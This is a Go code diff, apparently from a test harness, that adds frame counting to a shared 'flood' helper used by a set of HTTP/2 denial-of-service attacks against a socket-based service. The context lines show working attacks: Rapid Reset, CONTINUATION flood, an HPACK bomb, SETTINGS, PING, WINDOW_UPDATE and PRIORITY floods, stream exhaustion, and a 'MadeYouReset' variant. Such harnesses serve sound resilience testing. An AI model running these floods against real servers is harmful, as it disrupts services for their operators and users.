@@ -81,8 +81,9 @@ func sleep(ctx context.Context, d time.Duration) {
 	}
 }
 
-// flood writes batch frames with write, flushes, and repeats until the attack's time is up or the server hangs up.
-func flood(ctx context.Context, p *attackPeer, batch int, write func()) error {
+// flood writes batch groups of frames with write, flushes, and repeats until the attack's time is up or the server
+// hangs up. Each group counts as one frame sent (for the multi-frame groups: one request, one attack step).
+func flood(ctx context.Context, p *attackPeer, rec *reaction, batch int, write func()) error {
 	for !p.done(ctx) {
 		for i := 0; i < batch; i++ {
 			write()
@@ -90,6 +91,7 @@ func flood(ctx context.Context, p *attackPeer, batch int, write func()) error {
 		if err := p.w.Flush(); err != nil {
 			return err
 		}
+		atomic.AddInt64(&rec.framesSent, int64(batch))
 	}
 	return nil
 }
@@ -105,7 +107,7 @@ func hold(ctx context.Context, p *attackPeer) error {
 
 func rapidReset(ctx context.Context, socket string, rec *reaction) {
 	connections(ctx, socket, rec, 2, true, nil, func(ctx context.Context, p *attackPeer) error {
-		return flood(ctx, p, 100, func() {
+		return flood(ctx, p, rec, 100, func() {
 			id := p.stream()
 			p.headers(id, "Encrypt", false)
 			p.fr.WriteRSTStream(id, http2.ErrCodeCancel)
@@ -134,7 +136,7 @@ func continuationFlood(ctx context.Context, socket string, rec *reaction) {
 	connections(ctx, socket, rec, 2, true, nil, func(ctx context.Context, p *attackPeer) error {
 		id := p.stream()
 		p.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: literalBlock(requestFields("Encrypt")...)})
-		return flood(ctx, p, 16, func() { p.fr.WriteContinuation(id, false, chunk) })
+		return flood(ctx, p, rec, 16, func() { p.fr.WriteContinuation(id, false, chunk) })
 	})
 }
 
@@ -144,7 +146,7 @@ func hpackBomb(ctx context.Context, socket string, rec *reaction) {
 	block := append(literalBlock(requestFields("Encrypt")...), entry...)
 	block = append(block, bytes.Repeat([]byte{0x80 | 62}, 4000)...) // §6.1: indexed field 62, 4,000 times
 	connections(ctx, socket, rec, 2, true, nil, func(ctx context.Context, p *attackPeer) error {
-		return flood(ctx, p, 1, func() {
+		return flood(ctx, p, rec, 1, func() {
 			p.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: p.stream(), BlockFragment: block, EndHeaders: true,
 				EndStream: true})
 		})
@@ -160,25 +162,25 @@ func settingsFlood(ctx context.Context, socket string, rec *reaction) {
 		for i := 0; i < 256; i++ {
 			p.headers(p.stream(), "Encrypt", false)
 		}
-		return flood(ctx, p, 4, func() { p.fr.WriteSettings(entries...) })
+		return flood(ctx, p, rec, 4, func() { p.fr.WriteSettings(entries...) })
 	})
 }
 
 func pingFlood(ctx context.Context, socket string, rec *reaction) {
 	connections(ctx, socket, rec, 2, true, nil, func(ctx context.Context, p *attackPeer) error {
-		return flood(ctx, p, 1000, func() { p.fr.WritePing(false, [8]byte{1, 2, 3, 4, 5, 6, 7, 8}) })
+		return flood(ctx, p, rec, 1000, func() { p.fr.WritePing(false, [8]byte{1, 2, 3, 4, 5, 6, 7, 8}) })
 	})
 }
 
 func windowUpdateFlood(ctx context.Context, socket string, rec *reaction) {
 	connections(ctx, socket, rec, 2, true, nil, func(ctx context.Context, p *attackPeer) error {
-		return flood(ctx, p, 1000, func() { p.fr.WriteWindowUpdate(0, 1) })
+		return flood(ctx, p, rec, 1000, func() { p.fr.WriteWindowUpdate(0, 1) })
 	})
 }
 
 func priorityFlood(ctx context.Context, socket string, rec *reaction) {
 	connections(ctx, socket, rec, 2, true, nil, func(ctx context.Context, p *attackPeer) error {
-		return flood(ctx, p, 1000, func() { p.fr.WritePriority(p.stream(), http2.PriorityParam{Weight: 15}) })
+		return flood(ctx, p, rec, 1000, func() { p.fr.WritePriority(p.stream(), http2.PriorityParam{Weight: 15}) })
 	})
 }
 
@@ -247,13 +249,13 @@ func oversized(ctx context.Context, socket string, rec *reaction) {
 
 func streamExhaustion(ctx context.Context, socket string, rec *reaction) {
 	connections(ctx, socket, rec, 2, true, nil, func(ctx context.Context, p *attackPeer) error {
-		return flood(ctx, p, 100, func() { p.headers(p.stream(), "Encrypt", false) })
+		return flood(ctx, p, rec, 100, func() { p.headers(p.stream(), "Encrypt", false) })
 	})
 }
 
 func madeYouReset(ctx context.Context, socket string, rec *reaction) {
 	connections(ctx, socket, rec, 2, true, nil, func(ctx context.Context, p *attackPeer) error {
-		return flood(ctx, p, 50, func() {
+		return flood(ctx, p, rec, 50, func() {
 			id := p.stream()
 			p.encryptCall(id)
 			p.fr.WriteWindowUpdate(id, 0) // RFC 9113 §6.9: a stream error the server must answer with RST_STREAM
